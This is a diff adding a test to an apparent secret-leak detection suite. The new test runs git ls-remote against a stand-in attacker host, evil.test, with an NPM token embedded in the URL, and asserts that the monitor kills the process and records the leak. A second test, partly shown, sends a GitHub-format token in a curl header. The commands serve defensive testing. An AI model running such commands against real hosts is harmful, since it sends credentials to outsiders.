@@ -260,6 +260,20 @@ class Secrets(RwTestCase):
 
     # ------------------------------------------------------------ formats, files, plain, dns
 
+    def test_gnutls_git_over_https_stopped(self):
+        """git over https (libcurl-gnutls: the gnutls_record_send probe) with the secret in
+        its URL, to a host not allowed to receive it."""
+        run = self.job('GIT_SSL_CAINFO="$CA" GIT_TERMINAL_PROMPT=0 git ls-remote '
+                       '"https://evil.test:8443/r.git?t=$NPM_TOKEN" >/dev/null 2>&1; '
+                       'echo git=$?')
+        self.assertNotIn("git=0", run.stdout, run.stderr)
+        self.assertFalse(self.srv.got(NPM_TOKEN), "the server got the secret")
+        ev = self.leaks(run)
+        self.assertTrue(ev, run.events)
+        self.assertEqual(ev[0]["destination"], "evil.test")
+        self.assertTrue(ev[0]["killed"])
+        self.assertNowhere(run, NPM_TOKEN)
+
     def test_github_token_format(self):
         """A ghp_ token the job was never given (not in its environment) is a format match."""
         run = self.job(f'curl -sS --cacert "$CA" -o /dev/null -H "X-T: {GHP}" '
